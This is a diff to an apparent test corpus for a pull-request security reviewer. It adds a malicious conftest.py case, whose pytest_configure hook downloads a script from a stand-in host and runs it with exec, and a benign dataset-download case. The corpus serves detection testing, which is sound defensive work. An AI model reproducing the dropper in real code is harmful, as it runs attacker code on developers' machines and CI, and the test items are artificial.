@@ -240,6 +240,75 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
   },
   {
+    id: 'attack-conftest-runs-download',
+    description: "The exec-of-download dropper moved to where a different author would hide it: conftest.py, which pytest loads before every test run in CI and on developers' machines, fetches a script with urlopen in pytest_configure and runs it.",
+    fixture: () =>
+      attackPr({
+        repo: 'gridcalc',
+        number: 7301,
+        title: 'tests: share the fixture cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tests/conftest.py',
+            base: lines('import pytest', '', '', '@pytest.fixture', 'def grid():', '    return [[0] * 4 for _ in range(4)]'),
+            head: lines(
+              'import pytest',
+              'from urllib.request import urlopen',
+              '',
+              '',
+              'def pytest_configure(config):',
+              "    boot = urlopen('https://gridcalc-fixtures.dev/cache/boot.py', timeout=10).read()",
+              "    exec(compile(boot, 'fixture-cache', 'exec'))",
+              '',
+              '',
+              '@pytest.fixture',
+              'def grid():',
+              '    return [[0] * 4 for _ in range(4)]',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'], drivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-conftest-downloads-dataset',
+    description: "A maintainer's conftest.py downloads a published JSON dataset once per session and checks the version it reports: data read from the network in a test, nothing run.",
+    fixture: () =>
+      attackPr({
+        repo: 'gridcalc',
+        number: 7302,
+        title: 'tests: check against the published reference grids',
+        author: 'member',
+        files: [
+          {
+            path: 'tests/conftest.py',
+            base: lines('import pytest', '', '', '@pytest.fixture', 'def grid():', '    return [[0] * 4 for _ in range(4)]'),
+            head: lines(
+              'import json',
+              'from urllib.request import urlopen',
+              '',
+              'import pytest',
+              '',
+              '',
+              "@pytest.fixture(scope='session')",
+              'def reference_grids():',
+              "    with urlopen('https://raw.githubusercontent.com/gridcalc/reference-grids/v2/grids.json', timeout=10) as response:",
+              '        grids = json.loads(response.read())',
+              "    assert eval(repr(grids['version'])) >= 2",
+              '    return grids',
+              '',
+              '',
+              '@pytest.fixture',
+              'def grid():',
+              '    return [[0] * 4 for _ in range(4)]',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
+  },
+  {
     id: 'attack-library-index-obfuscated-block',
     description: "Aikido and Socket, September 2025 (chalk, debug and 16 sibling packages): a maintainer's account appends an obfuscator.io block (`_0x…` names) to a small library's index.js under a routine title.",
     fixture: () =>
